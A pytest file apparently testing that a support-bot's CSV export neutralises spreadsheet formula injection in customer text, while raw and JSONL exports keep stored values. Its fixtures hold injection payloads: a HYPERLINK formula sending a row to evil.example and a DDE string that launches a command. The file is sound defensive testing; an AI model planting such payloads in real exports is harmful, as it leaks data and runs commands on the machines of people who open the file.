"""Finding 6: customer text in a CSV export is never a spreadsheet formula unless `--raw` asks for it."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from bot.cli.main import main
from bot.core.config import DetectorsConfig
from bot.core.db import Database
from bot.ingest.store import Checks, ingest
from tests.bot.replies import record

NOW = dt.datetime(2026, 11, 27, 8, 0, tzinfo=dt.UTC)
# As a spreadsheet would run them: a link that leaks the row, arithmetic, a DDE command, a function.
FORMULAS = {
    "R-1": ('=HYPERLINK("https://evil.example/?"&A1,"click")', "=1+2", "+cmd|' /C calc'!A0"),
    "R-2": ("@SUM(A1:A9)", "-2+3", "%0A=1"),
    "R-3": ("-42", "plain", "1,5"),  # a number, plain text: unchanged
}


async def seed(url: str) -> None:
    db = Database(url)
    await db.upgrade()
    records = [
        record(rid, ticket=f"T-{rid}", template_id=template, intent=intent, channel=channel)
        for rid, (template, intent, channel) in FORMULAS.items()
    ]
    await ingest(db, records, checks=Checks.from_config(DetectorsConfig()), now=NOW)
    await db.dispose()


@pytest.fixture
def exported(database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    asyncio.run(seed(database_url))
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.delenv("AUDITBOT_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)

    def run(*args: str) -> str:
        out = tmp_path / "out"
        assert main(["export", "replies", *args, "-o", str(out)]) == 0
        return out.read_text(encoding="utf-8")

    return run


def cells(text: str) -> dict[str, tuple[str, str, str]]:
    return {
        row["id"]: (row["template_id"], row["intent"], row["channel"])
        for row in csv.DictReader(io.StringIO(text))
    }


def test_formula_cells_are_written_as_text_by_default(exported) -> None:  # type: ignore[no-untyped-def]
    rows = cells(exported())
    assert rows["R-1"] == (
        '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        "'=1+2",
        "'+cmd\\|' /C calc'!A0",
    )
    assert rows["R-2"] == ("'@SUM(A1:A9)", "'-2+3", "'%0A=1")
    assert rows["R-3"] == FORMULAS["R-3"]
    for row in rows.values():
        assert not any(cell[:1] in "=+@%" or (cell[:1] == "-" and not cell[1:].isdigit()) for cell in row)


def test_raw_writes_the_stored_values(exported) -> None:  # type: ignore[no-untyped-def]
    assert cells(exported("--raw")) == FORMULAS


def test_jsonl_keeps_the_values_as_they_are(exported) -> None:  # type: ignore[no-untyped-def]
    rows = [json.loads(line) for line in exported("--format", "jsonl").splitlines()]
    assert {r["id"]: (r["template_id"], r["intent"], r["channel"]) for r in rows} == FORMULAS
